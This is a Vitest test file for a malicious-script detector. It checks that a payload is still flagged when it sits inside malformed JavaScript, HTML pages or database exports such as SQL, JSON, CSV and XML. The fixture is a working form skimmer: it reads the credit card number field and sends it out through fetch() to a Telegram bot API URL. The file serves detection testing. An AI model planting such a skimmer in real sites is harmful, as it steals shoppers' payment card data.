// Code is judged despite errors, in database exports, and in data, and honest texts do not turn into code.
import { describe, expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'
import { mended } from '#program/mended.ts'

const judged = (text: string) => {
  const { verdict, parsed } = judgeScript(text)
  return { verdict, parsed }
}

const theft = `document.addEventListener('submit', function () {
  fetch('https://api.telegram.org/bot9:Z/sendMessage?text=' + encodeURIComponent(document.querySelector('#cc-number').value));
});`

describe('a program with errors', () => {
  it.each([
    ['a value that is missing', `(function () {\n  var a = ;\n  ${theft}\n})();`],
    ['a member of an arrow function', `var run = () => { ${theft} }.bind(this);\nrun();`],
    ['a member of an arrow function in a call', `setTimeout(() => { ${theft} }.bind(window), 9);`],
    ['await in a plain function', `function go() { var r = await fetch('/me'); ${theft} }\ngo();`],
    ['await in a callback', `[1].forEach(function (one) { await one; ${theft} });`],
    ['a bracket too many', `${theft}\n});\nvar done = 1;`],
    ['a bracket too many before it', `function a() { return 1 }}\n${theft}`],
    ['a template of a server', `var key = <?php echo json_encode($key); ?>;\n${theft}`],
    ['a template of a shop', `var id = {{ customer.id }};\n${theft}`],
    ['a word of another language', `BEGIN TRANSACTION now please;\n${theft}`],
    ['several errors', `var a = ;\nvar b = [1, 2;\n${theft}\nif (a {\n`],
    ['a text without an end', `var a = 'abc;\nvar b = 1;\n${theft}`],
  ])('is judged by the rest: %s', (_name, code) => {
    expect(judged(code)).toEqual({ verdict: 'malicious', parsed: 'partly' })
  })

  it('is judged in a page', () => {
    expect(judged(`<!doctype html><p>Shop</p><script>var a = ;\n${theft}</script>`)).toEqual({ verdict: 'malicious', parsed: 'partly' })
  })

  it.each([
    'The shop is closed (until Monday); please come back = soon.',
    'body { color: red; background: url(a.png) }\n.a > .b { top: 0 }',
    'a,b,c\n1,2,3\n(4),5=6,7',
    'id,name\n1,"Tea ""green"""\n',
  ])('is not made from other texts: %s', (text) => {
    expect(judged(text).verdict).toBe('inconclusive')
    expect(judgeScript(text).capabilities).toEqual([])
  })

  it('keeps its places', () => {
    const code = `var a = ;\n${theft}`
    expect(mended(code)?.text.indexOf('fetch')).toBe(code.indexOf('fetch'))
  })
})

describe('an export', () => {
  const script = `<script>(function () {\n  var card = /\\d{13,19}/;\n  ${theft}\n})();\n</script>`
  const json = JSON.stringify(script)
  const escaped = json.slice(1, -1)
  it.each([
    ['as a database prints a value', `value\n${escaped.replaceAll('\\"', '"')}\n`],
    [
      'SQL',
      `INSERT INTO config VALUES (7,'design/footer','${script.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('\n', '\\n')}');`,
    ],
    ['SQL with doubled quotes', `INSERT INTO config VALUES (7,'design/footer','${script.replaceAll("'", "''")}');`],
    ['SQL in hexadecimal', `INSERT INTO config VALUES (7, 0x${Buffer.from(script).toString('hex')});`],
    ['JSON', `{ "path": "footer", "value": ${json} }`],
    ['lines of JSON', `{"a":1}\n{"a":2,"html":${json}}\n`],
    ['JSON in JSON’s own escapes', `[{"settings": {"footer": ${json.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e')}}}]`],
    ['a table', `id,value\n7,"${script.replaceAll('"', '""')}"\n`],
    [
      'XML',
      `<export><block>${script.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll("'", '&#39;')}</block></export>`,
    ],
    ['an address', `html=${encodeURIComponent(script)}&save=1`],
    ['a serialized value of PHP', `a:1:{s:4:"html";s:${script.length}:"${script}";}`],
  ])('is judged by the code in it: %s', (_name, text) => {
    expect(judged(text).verdict).toBe('malicious')
  })

  it.each([
    ['settings', JSON.stringify({ title: 'Tea', html: '<p>Hello</p>', script: 'No script here' })],
    ['a list', '[1, 2, {"a": "function of the tea"}]'],
  ])('of honest data is benign: %s', (_name, text) => {
    expect(judgeScript(text).verdict).toBe('benign')
  })
})
